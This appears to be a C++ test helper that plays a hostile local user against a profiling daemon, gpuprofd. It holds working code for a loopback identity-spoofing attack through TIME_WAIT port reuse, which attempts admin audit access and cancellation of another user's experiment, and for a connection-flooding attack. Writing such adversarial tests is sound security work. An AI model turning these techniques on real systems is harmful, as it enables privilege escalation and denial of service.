// What a hostile local account runs against gpuprofd in the adversarial tests: real sockets,
// real gRPC, as that account (the tests start it with RunCommandAs). Each mode prints what it
// achieved, one "key=value" line per fact, for the test to judge.
//
//   adversary spoof-loopback --port P --tries N [--cancel ID]
//       Reproduces the loopback identity attack: leave a closed connection from local port X
//       in TIME_WAIT (its /proc/net/tcp line carries uid 0), reconnect to gpuprofd from the
//       same X and ask who the daemon takes us for; also try an admin call (the audit trail)
//       and cancelling someone else's experiment.
//   adversary hold-connections --unix PATH --tcp-port P --count N --hold-seconds S
//                              --status-file F
//       Opens N raw connections (alternating unix socket and loopback TCP) and holds them;
//       writes "holding admitted=A refused=R" to F once they are settled, and at the end
//       "evicted=E" (admitted connections the daemon closed while they were held).
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "absl/flags/flag.h"
#include "absl/flags/parse.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_format.h"
#include "absl/time/clock.h"
#include "absl/time/time.h"
#include "gpuprof/v1/profiler.grpc.pb.h"
#include "grpcpp/create_channel_posix.h"
#include "grpcpp/grpcpp.h"

ABSL_FLAG(int, port, 0, "gpuprofd's loopback TCP port");
ABSL_FLAG(int, tries, 20, "spoof-loopback: attempts");
ABSL_FLAG(std::string, cancel, "", "spoof-loopback: an experiment of someone else's to cancel");
ABSL_FLAG(std::string, unix, "", "hold-connections: gpuprofd's unix socket path");
ABSL_FLAG(int, tcp_port, 0, "hold-connections: gpuprofd's loopback TCP port");
ABSL_FLAG(int, count, 100, "hold-connections: connections to open");
ABSL_FLAG(int, hold_seconds, 10, "hold-connections: how long to hold them");
ABSL_FLAG(std::string, status_file, "", "hold-connections: where to report progress");

namespace {

sockaddr_in Loopback(int port) {
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(static_cast<uint16_t>(port));
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  return address;
}

// A TCP socket bound to local port `local_port` (0: any), connected to the daemon.
int ConnectFrom(int local_port, int server_port) {
  const int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return -1;
  const int on = 1;
  setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
  sockaddr_in local = Loopback(local_port);
  sockaddr_in server = Loopback(server_port);
  if (bind(fd, reinterpret_cast<sockaddr*>(&local), sizeof(local)) != 0 ||
      connect(fd, reinterpret_cast<sockaddr*>(&server), sizeof(server)) != 0) {
    close(fd);
    return -1;
  }
  return fd;
}

// Reads what the daemon sent (gRPC's HTTP/2 settings): a socket closed with unread data is
// reset instead of closed, and leaves no TIME_WAIT behind. Returns false at end-of-file or on
// an error (the daemon closed the connection).
bool DrainAlive(int fd) {
  char buffer[4096];
  while (true) {
    const ssize_t n = recv(fd, buffer, sizeof(buffer), MSG_DONTWAIT);
    if (n > 0) continue;
    return n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK);
  }
}

int LocalPort(int fd) {
  sockaddr_in address{};
  socklen_t length = sizeof(address);
  getsockname(fd, reinterpret_cast<sockaddr*>(&address), &length);
  return ntohs(address.sin_port);
}

// Whether /proc/net/tcp lists a closed socket (TIME_WAIT, or FIN_WAIT2 once orphaned: both
// are kept as time-wait entries, listed with uid 0) whose local port is `port`: the line that
// a lookup by local address alone took for the owner.
bool TimeWaitOn(int port) {
  std::ifstream table("/proc/net/tcp");
  std::string line;
  const std::string local = absl::StrFormat("0100007F:%04X", port);
  while (std::getline(table, line)) {
    std::istringstream columns(line);
    std::string slot, local_address, remote_address, state, queues, timer, retransmits, uid;
    columns >> slot >> local_address >> remote_address >> state >> queues >> timer >>
        retransmits >> uid;
    if (local_address == local && state != "01" && uid == "0") return true;
  }
  return false;
}

int SpoofLoopback() {
  const int port = absl::GetFlag(FLAGS_port);
  int time_wait_seen = 0;
  int tries_done = 0;
  for (int attempt = 0; attempt < absl::GetFlag(FLAGS_tries); ++attempt) {
    // A connection we close first: our end goes to TIME_WAIT, listed with uid 0.
    const int first = ConnectFrom(0, port);
    if (first < 0) continue;
    const int local_port = LocalPort(first);
    absl::SleepFor(absl::Milliseconds(20));
    DrainAlive(first);
    close(first);
    // The daemon closes its end in turn; ours then sits in TIME_WAIT.
    const absl::Time give_up = absl::Now() + absl::Seconds(3);
    while (!TimeWaitOn(local_port) && absl::Now() < give_up) {
      absl::SleepFor(absl::Milliseconds(5));
    }
    if (TimeWaitOn(local_port)) ++time_wait_seen;
    // The same local port again (loopback reuses a TIME_WAIT four-tuple).
    const int second = ConnectFrom(local_port, port);
    if (second < 0) {
      std::printf("try=%d reconnect_failed errno=%s\n", attempt, strerror(errno));
      continue;
    }
    ++tries_done;
    auto channel = grpc::CreateInsecureChannelFromFd("gpuprofd", second);
    auto stub = gpuprof::v1::Profiler::NewStub(channel);
    auto deadline = [] { return absl::ToChronoTime(absl::Now() + absl::Seconds(10)); };
    grpc::ClientContext who_context;
    who_context.set_deadline(deadline());
    gpuprof::v1::CallerInfo caller;
    const grpc::Status who = stub->WhoAmI(&who_context, gpuprof::v1::WhoAmIRequest(), &caller);
    std::printf("try=%d port=%d whoami=%s user=%s admin=%d by=%s\n", attempt, local_port,
                who.ok() ? "OK" : std::to_string(who.error_code()).c_str(),
                caller.user().c_str(), caller.admin() ? 1 : 0,
                caller.authenticated_by().c_str());
    grpc::ClientContext audit_context;
    audit_context.set_deadline(deadline());
    gpuprof::v1::ListAuditResponse audit;
    const grpc::Status audit_status =
        stub->ListAudit(&audit_context, gpuprof::v1::ListAuditRequest(), &audit);
    std::printf("try=%d audit=%d\n", attempt, static_cast<int>(audit_status.error_code()));
    if (!absl::GetFlag(FLAGS_cancel).empty()) {
      grpc::ClientContext cancel_context;
      cancel_context.set_deadline(deadline());
      gpuprof::v1::CancelRequest cancel;
      cancel.set_experiment_id(absl::GetFlag(FLAGS_cancel));
      gpuprof::v1::Experiment experiment;
      const grpc::Status cancelled = stub->Cancel(&cancel_context, cancel, &experiment);
      std::printf("try=%d cancel=%d\n", attempt, static_cast<int>(cancelled.error_code()));
    }
  }
  std::printf("time_wait_seen=%d tries_done=%d\n", time_wait_seen, tries_done);
  return 0;
}

int ConnectUnix(const std::string& path) {
  const int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  sockaddr_un address{};
  address.sun_family = AF_UNIX;
  strncpy(address.sun_path, path.c_str(), sizeof(address.sun_path) - 1);
  if (connect(fd, reinterpret_cast<sockaddr*>(&address), sizeof(address)) != 0) {
    close(fd);
    return -1;
  }
  return fd;
}

// Closed by the daemon: end-of-file (or an error) once what it sent is read.
bool ClosedByPeer(int fd) { return !DrainAlive(fd); }

void Report(const std::string& text) {
  std::ofstream(absl::GetFlag(FLAGS_status_file), std::ios::app) << text << "\n";
  std::printf("%s\n", text.c_str());
  std::fflush(stdout);
}

int HoldConnections() {
  std::vector<int> open;
  for (int i = 0; i < absl::GetFlag(FLAGS_count); ++i) {
    const int fd = i % 2 == 0 || absl::GetFlag(FLAGS_tcp_port) == 0
                       ? ConnectUnix(absl::GetFlag(FLAGS_unix))
                       : ConnectFrom(0, absl::GetFlag(FLAGS_tcp_port));
    if (fd >= 0) open.push_back(fd);
  }
  // Refused connections are closed as the daemon accepts them, which takes it a while for
  // hundreds: settled once no more are closed for a second.
  std::vector<int> admitted = open;
  int refused = 0;
  absl::Time last_change = absl::Now();
  const absl::Time give_up = absl::Now() + absl::Seconds(30);
  while (absl::Now() - last_change < absl::Seconds(1) && absl::Now() < give_up) {
    absl::SleepFor(absl::Milliseconds(100));
    std::vector<int> still;
    for (const int fd : admitted) {
      if (ClosedByPeer(fd)) {
        ++refused;
        close(fd);
        last_change = absl::Now();
      } else {
        still.push_back(fd);
      }
    }
    admitted.swap(still);
  }
  Report(absl::StrCat("holding admitted=", admitted.size(), " refused=", refused));
  absl::SleepFor(absl::Seconds(absl::GetFlag(FLAGS_hold_seconds)));
  int evicted = 0;
  for (const int fd : admitted) {
    evicted += ClosedByPeer(fd);
    close(fd);
  }
  Report(absl::StrCat("evicted=", evicted));
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  std::vector<char*> positional = absl::ParseCommandLine(argc, argv);
  const std::string mode = positional.size() > 1 ? positional[1] : "";
  if (mode == "spoof-loopback") return SpoofLoopback();
  if (mode == "hold-connections") return HoldConnections();
  std::fprintf(stderr, "adversary: mode must be spoof-loopback or hold-connections, got \"%s\"\n",
               mode.c_str());
  return 2;
}
